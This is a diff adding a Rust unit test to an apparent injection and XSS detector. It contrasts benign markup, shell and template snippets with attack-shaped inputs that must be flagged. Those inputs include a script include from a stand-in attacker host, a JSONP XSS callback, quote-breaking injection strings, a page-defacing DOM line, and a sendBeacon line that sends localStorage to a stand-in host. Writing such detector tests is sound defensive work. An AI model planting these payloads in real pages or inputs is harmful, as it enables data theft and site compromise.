@@ -1117,3 +1117,42 @@ fn written_error_messages_and_operator_keys_as_parameters() {
             .threat
     );
 }
+
+/// Page markup, shell lines and templates shown in a message stay quiet;
+/// the same shapes as a parameter, or with what an attack needs, count.
+#[test]
+fn documents_show_markup_shell_lines_and_templates() {
+    let d = detector();
+    for text in [
+        "<link rel=\"stylesheet\" href=\"/css/print.css\">\n<script src=\"/js/app.3f9a1c.js\" defer></script>",
+        "$env:ASPNETCORE_ENVIRONMENT = 'Development'; dotnet watch run --project .\\src\\Api\\Api.csproj",
+        "export NODE_ENV=test; npm test",
+        "{{ config(materialized='incremental') }}\nselect * from {{ ref('orders') }}\n{% if is_incremental() %}\nwhere updated_at > (select max(updated_at) from {{ this }})\n{% endif %}",
+        "tip: `find . -name '*.orig' -delete` cleans up. Do a dry run with `-print` first though.",
+        "document.querySelector('#year').textContent = new Date().getFullYear();",
+        "?q=\"red dress\" OR \"maroon dress\"&size=M",
+        "/deploy staging --branch release/2.4 && ping #ops when green",
+    ] {
+        let v = d.scan_as(text.as_bytes(), InputKind::Text);
+        assert!(!v.threat, "{text:?}: {:?}", v.findings);
+    }
+    // A same-site script element is still one as a parameter.
+    let v = d.scan_as(b"<script src=\"/js/app.js\"></script>", InputKind::Value);
+    assert!(
+        v.threat && v.findings.iter().any(|f| f.rule_id == "xss-script-include"),
+        "{:?}",
+        v.findings
+    );
+    for text in [
+        "<script src=\"/api/jsonp?callback=alert(1)\"></script>",
+        "<script src=\"//evil.example/x.js\"></script>",
+        "x'; dotnet run",
+        "admin\" or \"1",
+        "1 && x#",
+        "document.querySelector('h1').textContent='hacked'",
+        "document.querySelector('a').textContent = navigator.sendBeacon('//e.example', localStorage.t)",
+    ] {
+        let v = d.scan_as(text.as_bytes(), InputKind::Text);
+        assert!(v.threat, "{text:?}");
+    }
+}
